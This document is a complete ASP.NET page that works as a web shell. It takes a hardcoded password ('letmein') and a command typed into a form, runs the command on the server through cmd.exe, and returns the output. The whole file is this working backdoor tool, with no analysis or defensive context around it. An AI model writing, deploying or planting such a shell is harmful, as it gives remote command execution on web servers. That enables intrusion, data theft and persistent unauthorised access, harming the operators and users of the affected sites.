<%@ Page Language="C#" %>
<%@ Import namespace="System.Diagnostics"%>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    private const string KEY = "letmein";

    protected void btnExecute_Click(object sender, EventArgs e)
    {
        if (txtKey.Text != KEY) return;
        Response.Write("<pre>" + Server.HtmlEncode(Exec(txtCommand.Text)) + "</pre>");
    }

    private string Exec(string command)
    {
        try
        {
            ProcessStartInfo psi = new ProcessStartInfo();
            psi.FileName = @"C:\Windows\System32\cmd.exe";
            psi.Arguments = "/c " + command;
            psi.RedirectStandardOutput = true;
            psi.UseShellExecute = false;
            using (Process proc = Process.Start(psi))
            using (StreamReader sr = proc.StandardOutput)
                return sr.ReadToEnd();
        }
        catch (Exception ex) { return ex.ToString(); }
    }
</script>
<html><body><form id="f" runat="server">
Key: <asp:TextBox id="txtKey" runat="server" TextMode="Password" />
Command: <asp:TextBox ID="txtCommand" runat="server" Width="800px" />
<asp:Button ID="btnExecute" runat="server" OnClick="btnExecute_Click" Text="Execute" />
</form></body></html>
